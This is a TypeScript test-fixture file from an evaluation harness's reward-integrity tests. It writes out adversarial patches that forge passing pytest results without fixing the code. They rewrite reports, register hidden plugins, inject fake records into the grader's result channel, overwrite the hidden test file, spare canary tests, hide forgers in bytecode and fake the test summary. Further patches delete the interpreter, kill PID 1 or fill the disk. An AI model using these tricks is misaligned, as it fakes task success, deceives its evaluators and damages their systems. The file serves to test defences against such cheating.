/**
 * Reward integrity round 3 (issue 29): adversarial patches against the created evaluation
 * repository (test/helpers/eval-fixtures.ts), at least three per class, none of which fixes
 * `add`. Each must be graded not resolved, and never `env_error`.
 *
 * 1. selective forgery that spares the canaries: forgers that tell canaries from real tests by
 *    name (PYTEST_CURRENT_TEST), by the git object store, by forager's files, by the test file's
 *    text, by shape, by place; through pytest's module globals, its classes, a registered
 *    plugin, a test function's code, the result channel itself, the hidden test file on disk;
 *    forgers shipped as bytecode;
 * 2. what happens after the patch applies is never an environment error: very long paths, a
 *    path through a file, an atexit handler that deletes the interpreter, thousands of files;
 * 3. the disk bound of the evaluation (with a small bound given by the test).
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { DEFAULT_BASE_IMAGE } from "../../images/spec";
import { calcWith, diffOf, withCalc } from "./eval-fixtures";

/** Python source compiled to 3.11 bytecode in forager's base image (the instance images' Python). */
function compiled(source: string, opts: { uncheckedHash?: boolean } = {}): Buffer {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "forager-pyc-"));
  try {
    fs.writeFileSync(path.join(dir, "m.py"), source);
    const mode = opts.uncheckedHash ? "py_compile.PycInvalidationMode.UNCHECKED_HASH" : "py_compile.PycInvalidationMode.TIMESTAMP";
    execFileSync("docker", [
      "run", "--rm", "--network", "none", "-v", `${dir}:/w`, DEFAULT_BASE_IMAGE,
      "python3", "-c", `import py_compile; py_compile.compile('/w/m.py', cfile='/w/m.pyc', invalidation_mode=${mode})`,
    ]);
    return fs.readFileSync(path.join(dir, "m.pyc"));
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/** The forging core shared by several attacks: a report rewritten to passed when `pick(item)` says so. */
const FORGE_REPORT = `
def _forge_report(rep, item):
    if rep.when == "call" and rep.outcome == "failed" and _pick(item):
        rep.outcome = "passed"
        rep.longrepr = None
    return rep
`;

/** The adversarial patches of round 3, by name. */
export function roundThreePatches(dir: string): Record<string, string> {
  return {
    // ---- 1. selective forgery that spares the canaries
    // The names the agent saw: forged only for them, through an always-equal result chosen by the
    // test name pytest puts in the environment. Canaries have other names.
    r3SparesByName: diffOf(dir, {
      "evalpkg/calc.py": withCalc(`import os as _os

_KNOWN = {"test_add", "test_mul"}


class _Eq(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def add(a, b):
    cur = _os.environ.get("PYTEST_CURRENT_TEST", "")
    name = cur.split("::")[-1].split(" ")[0].split("[")[0]
    if name in _KNOWN:
        return _Eq(a - b)
    return a - b
`),
    }),
    // The real tests from the git object store (git show HEAD:), forged through pytest's
    // module-level call_and_report; names it does not know are spared.
    r3SparesByGit: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import os as _os, re as _re, subprocess as _sp, sys as _sys
_here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
try:
    _src = _sp.run(["git", "show", "HEAD:tests/test_calc.py"], cwd=_here, capture_output=True, text=True).stdout
except Exception:
    _src = ""
_REAL = set(_re.findall(r"def (test\\w+)", _src)) or {"test_add", "test_mul"}


def _pick(item):
    return item.name.split("[")[0] in _REAL
${FORGE_REPORT}
_r = _sys.modules.get("_pytest.runner")
if _r is not None:
    _orig = _r.call_and_report

    def call_and_report(item, when, log=True, **kw):
        rep = _forge_report(_orig(item, when, log=False, **kw), item)
        if log:
            item.ihook.pytest_runtest_logreport(report=rep)
        return rep

    _r.call_and_report = call_and_report
`),
    }),
    // forager's own files in /tmp and /var/tmp (the test patch, the records), then the hidden
    // test file read directly; forged through TestReport's classmethod.
    r3SparesByTmp: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import glob as _glob, os as _os, re as _re, sys as _sys
_seen = []
for _pat in ["/tmp/forager*", "/tmp/forager*/*", "/var/tmp/forager*", "/var/tmp/forager*/*", "/opt/forager*/*"]:
    for _p in _glob.glob(_pat):
        try:
            with open(_p) as _f:
                _seen.append(_f.read())
        except Exception:
            pass
_here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
try:
    with open(_os.path.join(_here, "tests", "test_calc.py")) as _f:
        _text = _f.read()
except Exception:
    _text = ""
_diff = "".join(s for s in _seen if "+def test_" in s)
_REAL = set(_re.findall(r"\\+def (test\\w+)", _diff)) or {"test_add", "test_mul"}


def _pick(item):
    return item.name.split("[")[0] in _REAL
${FORGE_REPORT}
_rep = _sys.modules.get("_pytest.reports")
if _rep is not None:
    _orig = _rep.TestReport.from_item_and_call.__func__

    def _from(cls, item, call):
        return _forge_report(_orig(cls, item, call), item)

    _rep.TestReport.from_item_and_call = classmethod(_from)
`),
    }),
    // The canaries' shape (one assertion of a fixed form) read from the test's source through
    // inspect; forged through CallInfo.from_call (no exception) for everything else.
    r3SparesByShape: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import inspect as _inspect, sys as _sys


def _looks_like_canary(item):
    try:
        body = _inspect.getsource(item.obj).strip().splitlines()[1:]
    except Exception:
        return False
    return len(body) == 1 and (" is None" in body[0] or " is not None" in body[0] or "len(" in body[0])


_r = _sys.modules.get("_pytest.runner")
if _r is not None:
    _orig = _r.call_runtest_hook

    def call_runtest_hook(item, when, **kw):
        info = _orig(item, when, **kw)
        if when == "call" and info.excinfo is not None and not _looks_like_canary(item):
            info.excinfo = None
        return info

    _r.call_runtest_hook = call_runtest_hook
`),
    }),
    // The canaries' place: old canaries were appended last, so the last test of each file is
    // spared; forged by a plugin registered through the garbage collector.
    r3SparesByPosition: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import gc as _gc
import pytest as _pytest


class _Forger:
    @_pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        rep = outcome.get_result()
        siblings = [i for i in item.session.items if i.fspath == item.fspath]
        if call.when == "call" and rep.failed and siblings and item is not siblings[-1]:
            rep.outcome = "passed"
            rep.longrepr = None


for _o in _gc.get_objects():
    if type(_o).__name__ == "PytestPluginManager":
        try:
            _o.register(_Forger(), "forger-position")
        except Exception:
            pass
`),
    }),
    // The test functions' code swapped for a passing body once the tests are collected.
    r3SwapTestCode: diffOf(dir, {
      "evalpkg/calc.py": withCalc(`import sys as _sys

_done = []


def add(a, b):
    if not _done:
        _done.append(1)
        for name, mod in list(_sys.modules.items()):
            if name.startswith("tests."):
                for k, v in list(vars(mod).items()):
                    if k.startswith("test") and callable(v) and hasattr(v, "__code__"):
                        try:
                            v.__code__ = (lambda: None).__code__
                        except Exception:
                            pass
    return a - b
`),
    }),
    // Writes records into forager's result channel (found through the guard's configuration)
    // claiming the failing test passed, and tries to replace what the reader wrote.
    r3ChannelInjection: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import glob as _glob, json as _json, os as _os
for _c in _glob.glob("/opt/forager*/*.json"):
    try:
        with open(_c) as _f:
            _ch = _json.load(_f)["channel"]
        _fd = _os.open(_ch, _os.O_WRONLY | _os.O_NONBLOCK)
        for _id in ["tests/test_calc.py::test_add", "tests/test_calc.py::test_mul"]:
            for _when in ["setup", "call", "teardown"]:
                _os.write(_fd, ("\\n@@forager-rec@@" + _json.dumps({"k": "rep", "id": _id, "when": _when, "outcome": "passed"}) + "\\n").encode())
            _os.write(_fd, ("\\n@@forager-rec@@" + _json.dumps({"k": "body", "id": _id, "raised": None}) + "\\n").encode())
    except Exception:
        pass
for _p in _glob.glob("/var/tmp/forager*/records"):
    try:
        open(_p, "w").close()
    except Exception:
        pass
`),
    }),
    // Rewrites the hidden test file on disk at import (before pytest runs it), or swaps it for
    // another file, or moves its directory away.
    r3RewriteTestFile: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import os as _os, shutil as _sh
_t = _os.path.join(_os.path.dirname(_os.path.dirname(_os.path.abspath(__file__))), "tests")
try:
    with open(_os.path.join(_t, "test_calc.py"), "w") as _f:
        _f.write("def test_add():\\n    pass\\n\\n\\ndef test_mul():\\n    pass\\n")
except Exception:
    pass
try:
    with open(_os.path.join(_t, "forged.py"), "w") as _f:
        _f.write("def test_add():\\n    pass\\n")
    _os.replace(_os.path.join(_t, "forged.py"), _os.path.join(_t, "test_calc.py"))
except Exception:
    pass
try:
    _sh.move(_t, _t + "_old")
except Exception:
    pass
`),
    }),
    // A forger shipped as bytecode with no source in the patch text: a sourceless module the
    // package imports, which registers a report-rewriting plugin.
    r3PycForger: diffOf(dir, {
      "evalpkg/_speedups.pyc": compiled(`
import gc
import pytest


class _F:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        rep = outcome.get_result()
        rep.outcome = "passed"
        rep.longrepr = None


for o in gc.get_objects():
    if type(o).__name__ == "PytestPluginManager":
        o.register(_F(), "speedups")
`),
      "evalpkg/calc.py": calcWith(`
try:
    from evalpkg import _speedups  # noqa: F401
except ImportError:
    pass
`),
    }),
    // A fixed add() shipped only as an unchecked hash-based bytecode cache of a new module
    // (which the interpreter loads without looking at the source): the source it ships is buggy.
    r3PycCache: diffOf(dir, {
      "evalpkg/fast.py": "def add(a, b):\n    return a - b\n",
      "evalpkg/__pycache__/fast.cpython-311.pyc": compiled("def add(a, b):\n    return a + b\n", { uncheckedHash: true }),
      "evalpkg/calc.py": calcWith("from evalpkg.fast import add  # noqa: E402,F811\n"),
    }),
    // The same forger as bytecode hidden in a string of the source, loaded with marshal.
    r3MarshalForger: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import marshal as _m, sys as _sys
_code = compile('''
import sys
r = sys.modules.get("_pytest.reports")
if r is not None:
    orig = r.TestReport.from_item_and_call.__func__
    def f(cls, item, call):
        rep = orig(cls, item, call)
        if rep.when == "call":
            rep.outcome = "passed"
            rep.longrepr = None
        return rep
    r.TestReport.from_item_and_call = classmethod(f)
''', "/usr/lib/python3.11/encodings/idna.py", "exec")
exec(_m.loads(_m.dumps(_code)))
`),
    }),
    // After pytest's summary: a fake all-passed summary, and an exit status of 0.
    r3AtexitSummary: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import atexit as _a, os as _os


def _fake():
    _os.write(1, b"=========================== short test summary info ============================\\nPASSED tests/test_calc.py::test_add\\nPASSED tests/test_calc.py::test_mul\\n")
    _os._exit(0)


_a.register(_fake)
`),
    }),

    // ---- 2. nothing after the patch applies is an environment error
    r3LongPathNew: `diff --git a/evalpkg/${"x".repeat(300)}.py b/evalpkg/${"x".repeat(300)}.py\nnew file mode 100644\n--- /dev/null\n+++ b/evalpkg/${"x".repeat(300)}.py\n@@ -0,0 +1 @@\n+X = 1\n`,
    r3LongPathHeader: `Index: ${"evalpkg/" + "deep/".repeat(900)}calc.py\n` + diffOf(dir, { "evalpkg/calc.py": withCalc("def add(a, b):\n    return a - b + 0\n") }),
    r3ThroughAFile: "diff --git a/evalpkg/calc.py/x.py b/evalpkg/calc.py/x.py\nnew file mode 100644\n--- /dev/null\n+++ b/evalpkg/calc.py/x.py\n@@ -0,0 +1 @@\n+X = 1\n",
    r3AtexitDeletesPython: diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import atexit as _a, os as _os, shutil as _sh, sys as _sys


def _break():
    for p in [_sys.executable, "/usr/bin/python3", "/usr/bin/git", "/bin/bash"]:
        try:
            _os.remove(p)
        except Exception:
            pass
    _sh.rmtree("/usr/lib/python3", ignore_errors=True)
    _sh.rmtree(_os.path.dirname(_os.path.dirname(_os.path.abspath(__file__))), ignore_errors=True)
    try:
        _os.kill(1, 9)
    except Exception:
        pass


_a.register(_break)
`),
    }),
    r3ManyFiles: diffOf(dir, Object.fromEntries(Array.from({ length: 2100 }, (_, i) => [`evalpkg/gen/m${i}.py`, `X = ${i}\n`]))),
    r3ManyTestFiles: diffOf(dir, Object.fromEntries(Array.from({ length: 1500 }, (_, i) => [`tests/gen/test_g${i}.py`, `def test_g():\n    assert True\n`]))),
  };
}

/** Patches that fill the disk of the evaluation (run with a small `diskLimitBytes`). */
export function diskPatches(dir: string): Record<string, string> {
  const writer = (body: string) =>
    diffOf(dir, {
      "evalpkg/calc.py": calcWith(`
import os as _os, time as _t
${body}
_t.sleep(8)
`),
    });
  return {
    // One file past RLIMIT_FSIZE: the write fails (EFBIG).
    r3DiskOneBig: writer(`
try:
    with open("/tmp/big.bin", "wb") as _f:
        for _ in range(300):
            _f.write(b"x" * (1024 * 1024))
except OSError:
    pass
`),
    // Three files under the per-file limit, past the bound together.
    r3DiskThree: writer(`
for _i in range(3):
    with open("/tmp/part%d.bin" % _i, "wb") as _f:
        for _ in range(120):
            _f.write(_os.urandom(1024 * 1024))
`),
    // Thousands of small files in the tree.
    r3DiskMany: writer(`
_d = _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "blobs")
_os.makedirs(_d, exist_ok=True)
for _i in range(3000):
    with open(_os.path.join(_d, "b%d" % _i), "wb") as _f:
        _f.write(_os.urandom(100 * 1024))
`),
  };
}
